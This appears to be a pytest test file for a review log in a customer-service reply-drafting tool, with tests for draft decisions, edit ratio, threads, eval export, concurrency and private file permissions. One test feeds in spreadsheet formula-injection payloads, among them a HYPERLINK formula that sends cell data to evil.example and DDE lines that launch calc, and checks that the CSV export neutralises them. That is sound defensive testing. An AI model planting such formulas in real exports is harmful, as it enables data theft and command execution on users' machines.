"""The review log: decisions, edit ratio, threads, analytics, exports, and several operators at once."""

from __future__ import annotations

import multiprocessing
import sqlite3
from pathlib import Path

import pytest
import yaml

from assistant.errors import InputError
from assistant.evals.suite import Case
from assistant.models import Role, Turn
from assistant.reviewlog import ReviewLog, edit_ratio
from assistant.transcript import continue_thread
from tests.support import run_cli


def make_draft(demo, log: ReviewLog, customer_id: str | None, message: str, operator: str = "ann") -> int:
    thread = log.thread(customer_id) if customer_id else []
    conversation, new_turns = continue_thread(thread, message)
    draft = demo.draft(conversation)
    return log.log_draft(
        draft,
        conversation=conversation,
        new_turns=new_turns,
        input_text=message,
        customer_id=customer_id,
        operator=operator,
    )


def test_decisions_threads_and_edit_ratio(demo, tmp_path):
    log = ReviewLog(tmp_path / "review.db")
    customer = log.create_customer("小美", {"skin_types": ["oily"]})
    first = make_draft(demo, log, customer, "你好，我脸上老出油还长痘")
    result = log.decide(first, "approved", operator="ann")
    assert result["decision"] == "approved" and result["edit_ratio"] == 0.0
    assert [t.role for t in log.thread(customer)] == [Role.customer, Role.operator]
    second = make_draft(demo, log, customer, "对的")
    row = log.draft(second)
    assert row["stage"] == "propose"  # the thread carried the restatement, the customer confirmed it
    edited = log.decide(second, "approved", final_text="我改写了这一句回复。", operator="bob")
    assert edited["decision"] == "edited" and edited["edit_ratio"] > 0.5
    with pytest.raises(InputError, match="already"):
        log.decide(second, "rejected", reason="late")
    third = make_draft(demo, log, customer, "好的")
    with pytest.raises(InputError, match="say why"):
        log.decide(third, "rejected")
    log.decide(third, "rejected", reason="too long")
    assert len(log.thread(customer)) == 5  # a rejected draft's customer message still joins the thread
    metrics = {m["stage"]: m for m in log.metrics(log.drafts(), by="stage")}
    assert (
        metrics["propose"]["drafts"] == 2
        and metrics["propose"]["approval_rate"] == 0.5
        and metrics["propose"]["edited"] == 1
    )
    assert "too long" in log.to_csv(log.drafts()) and log.customers()[0]["drafts"] == 3


def test_edit_ratio():
    assert edit_ratio("abc", "abc") == 0.0 and edit_ratio("", "") == 0.0
    assert 0 < edit_ratio("您好，请问您是油皮吗？", "您好，您是油皮吗？") < 0.5
    assert edit_ratio("abc", "xyz") == 1.0


def test_approved_draft_becomes_an_eval_case(demo, tmp_path):
    log = ReviewLog(tmp_path / "review.db")
    customer = log.create_customer("Lily")
    draft_id = make_draft(demo, log, customer, "用了你们的精华脸上起红疹了")
    log.decide(draft_id, "approved")
    case = log.to_eval_case(draft_id)
    Case.model_validate(case)  # the eval-suite format
    assert case["expect"]["stage"] == "escalate" and case["conversation"][-1] == {
        "customer": "用了你们的精华脸上起红疹了"
    }
    assert yaml.safe_load(yaml.safe_dump(case, allow_unicode=True)) == case
    pending = make_draft(demo, log, customer, "好的")
    with pytest.raises(InputError, match="pending"):
        log.to_eval_case(pending)


def _operator(args: tuple[str, int, int]) -> list[tuple[int, str]]:
    """One operator session: its own customer, drafts and decisions, as fast as it can."""
    path, worker, rounds = args
    log = ReviewLog(Path(path))
    customer = log.create_customer(f"customer-{worker}")
    done = []
    for n in range(rounds):
        conversation, new_turns = continue_thread(log.thread(customer), f"worker {worker} message {n}")
        from assistant.models import Analysis, Draft, Slots, Stage

        draft = Draft(
            stage=Stage.ask,
            reply=f"reply {worker}-{n}",
            variants=[f"reply {worker}-{n}"],
            analysis=Analysis(slots=Slots(), stage=Stage.ask, language="en"),
            engine="offline",
        )
        draft_id = log.log_draft(
            draft,
            conversation=conversation,
            new_turns=new_turns,
            input_text=f"w{worker} m{n}",
            customer_id=customer,
            operator=f"op-{worker}",
        )
        log.decide(draft_id, "approved", final_text=f"sent {worker}-{n}", operator=f"op-{worker}")
        done.append((draft_id, customer))
    return done


def test_concurrent_operators_lose_and_mix_nothing(tmp_path):
    path = tmp_path / "review.db"
    ReviewLog(path)
    workers, rounds = 6, 25
    with multiprocessing.get_context("spawn").Pool(workers) as pool:
        results = pool.map(_operator, [(str(path), w, rounds) for w in range(workers)])
    log = ReviewLog(path)
    drafts = log.drafts()
    assert len(drafts) == workers * rounds and len({d["id"] for d in drafts}) == workers * rounds
    for worker, done in enumerate(results):
        customer = done[0][1]
        mine = [d for d in drafts if d["customer_id"] == customer]
        assert len(mine) == rounds and {d["operator"] for d in mine} == {f"op-{worker}"}
        assert all(d["final_text"].startswith(f"sent {worker}-") and d["decision"] == "edited" for d in mine)
        thread = log.thread(customer)
        assert [t.text for t in thread] == [
            x for n in range(rounds) for x in (f"worker {worker} message {n}", f"sent {worker}-{n}")
        ]
    assert sqlite3.connect(path).execute("PRAGMA journal_mode").fetchone()[0] == "wal"


def test_customer_needs_a_name(tmp_path):
    with pytest.raises(InputError):
        ReviewLog(tmp_path / "r.db").create_customer("  ")


def test_whole_chat_paste_replaces_the_thread():
    thread = [Turn(role=Role.customer, text="旧消息")]
    conversation, new = continue_thread(thread, "客户: 新的\n我: 好\n客户: 对", replace=True)
    assert [t.text for t in conversation.turns] == ["新的", "好", "对"] and len(new) == 3
    conversation, _ = continue_thread(thread, "再来一条")
    assert [t.text for t in conversation.turns] == ["旧消息", "再来一条"]


def test_cli_export_writes_a_valid_suite(demo, tmp_path):
    data = tmp_path / "data"
    log = ReviewLog.in_data_dir(data)
    draft_id = make_draft(demo, log, log.create_customer("A"), "你好，我是干皮，脸上起皮")
    log.decide(draft_id, "approved", final_text="您好～干皮起皮的话，主要是在两颊还是全脸呢？")
    out = run_cli("eval", "export", "--out", str(tmp_path / "s.yaml"), data_dir=data)
    assert out.returncode == 0, out.stderr
    suite = yaml.safe_load((tmp_path / "s.yaml").read_text(encoding="utf-8"))
    assert suite["cases"][0]["id"] == f"review-{draft_id}" and suite["cases"][0][
        "reference_reply"
    ].startswith("您好～干皮")


def test_csv_export_is_inert_in_a_spreadsheet_and_opens_in_excel(demo, tmp_path):
    """Customer text that a spreadsheet would run (=, +, -, @, tab, CR first) is prefixed with ', and
    the file starts with a UTF-8 BOM so Excel/WPS on a Chinese Windows shows the Chinese."""
    import csv
    import io

    log = ReviewLog(tmp_path / "review.db")
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
    ]
    customer = log.create_customer("=cmd|' /C calc'!A0")
    for text in hostile:
        log.decide(make_draft(demo, log, customer, text, operator="@ann"), "rejected", reason="-1 bad")
    exported = log.to_csv(log.drafts())
    assert exported.startswith("\ufeff") and exported.encode("utf-8").startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(exported.removeprefix("\ufeff"))))
    assert sorted(r["input_text"] for r in rows) == sorted("'" + t for t in hostile)
    for row in rows:
        assert row["customer"] == "'=cmd|' /C calc'!A0" and row["operator"] == "'@ann"
        assert row["reason_text"] == "'-1 bad"
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_the_review_log_is_0600_from_the_start(demo, tmp_path):
    import os
    import stat

    old = os.umask(0o022)
    try:
        log = ReviewLog(tmp_path / "data" / "review.db")
        customer = log.create_customer("小美")
        draft_id = make_draft(demo, log, customer, "你好")
        with sqlite3.connect(log.path) as reader:  # keep a reader open so the WAL and shm files stay
            reader.execute("SELECT COUNT(*) FROM drafts").fetchone()
            log.decide(draft_id, "approved")
            files = {p.name: stat.S_IMODE(p.stat().st_mode) for p in log.path.parent.iterdir()}
    finally:
        os.umask(old)
    assert {"review.db", "review.db-wal", "review.db-shm"} <= set(files), files
    assert all(mode == 0o600 for mode in files.values()), {k: oct(v) for k, v in files.items()}
    assert stat.S_IMODE(log.path.parent.stat().st_mode) == 0o700


def test_an_older_readable_review_log_is_made_private(tmp_path):
    import stat

    path = tmp_path / "review.db"
    sqlite3.connect(path).close()
    path.chmod(0o644)
    ReviewLog(path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
